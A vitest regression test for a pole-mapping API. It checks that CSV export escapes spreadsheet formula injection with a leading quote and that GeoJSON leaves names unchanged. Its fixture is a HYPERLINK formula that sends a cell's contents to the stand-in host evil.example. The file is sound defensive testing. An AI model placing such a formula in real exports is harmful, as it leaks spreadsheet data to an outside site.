import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import type { ImportResult } from '@integration/contracts';
import { bearer, createTestApp, type TestApp } from '../../test/test-app.ts';
import { multipart } from './test-uploads.ts';

/**
 * Issue 25, finding 9: a pole named as a spreadsheet formula was exported as is in CSV, where
 * Excel or LibreOffice would run it (sending the sheet's cells to another site). Texts starting
 * with = + - @, a tab or a carriage return now get a leading '; numbers and geometries do not.
 */
let t: TestApp;
let planner: string;
let cbd01: number;
let poleId: number;
const FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Open")';

beforeAll(async () => {
  t = await createTestApp();
  planner = await t.login('planner@example.com', 'planner1234');
  cbd01 =
    (await t.db.one<{ id: number }>(sql`SELECT id FROM clusters WHERE name = 'CBD-01'`))?.id ?? 0;
  const created = await t.app.inject({
    method: 'POST',
    url: '/api/networkelements/pole/create',
    payload: { clusterId: cbd01, name: FORMULA, coordinates: { lat: -1.2833, lng: 36.8172 } },
    headers: bearer(planner),
  });
  expect(created.statusCode, created.body).toBe(200);
  poleId = created.json<{ data: { id: number } }>().data.id;
}, 240_000);
afterAll(() => t.close());

/** A CSV line's cells (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      out.push(cell);
      cell = '';
    } else cell += c;
  }
  out.push(cell);
  return out;
}

describe('CSV export of a text that reads as a formula', () => {
  it('starts the cell with a quote; coordinates and the geometry keep their signs', async () => {
    const answer = await t.app.inject({
      method: 'POST',
      url: '/api/file-format/export',
      payload: { clusterId: cbd01, format: 'csv', elementIds: [poleId] },
      headers: bearer(planner),
    });
    expect(answer.statusCode, answer.body.slice(0, 300)).toBe(200);
    const [header = '', row = ''] = answer.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/);
    const names = cells(header);
    const values = Object.fromEntries(cells(row).map((v, i) => [names[i], v]));
    expect(values.Name).toBe(`'${FORMULA}`);
    // Made by the server from the geometry: never a formula, kept as it is.
    expect(values.Coordinates).toBe('-1.2833, 36.8172');
    expect(values.WKT).toBe('POINT (36.8172 -1.2833)');
    expect(Number(values.id)).toBe(poleId);

    // Read back as any GIS would: the text keeps its quote, the point its place.
    const body = multipart([{ name: 'poles.csv', data: answer.rawPayload }]);
    const read = await t.app.inject({
      method: 'POST',
      url: '/api/file-format/import',
      payload: body.payload,
      headers: { ...body.headers, ...bearer(planner) },
    });
    expect(read.statusCode, read.body.slice(0, 300)).toBe(200);
    const [feature] = read.json<{ data: ImportResult }>().data.layers[0]?.features.features ?? [];
    expect(feature?.properties?.Name).toBe(`'${FORMULA}`);
    expect(feature?.geometry).toEqual({ type: 'Point', coordinates: [36.8172, -1.2833] });
  }, 60_000);

  it('leaves other formats as they were: GeoJSON keeps the name as written', async () => {
    const answer = await t.app.inject({
      method: 'POST',
      url: '/api/file-format/export',
      payload: { clusterId: cbd01, format: 'geojson', elementIds: [poleId] },
      headers: bearer(planner),
    });
    expect(answer.statusCode).toBe(200);
    const collection = answer.json<{ features: { properties: Record<string, unknown> }[] }>();
    expect(collection.features[0]?.properties.Name).toBe(FORMULA);
  }, 60_000);
});
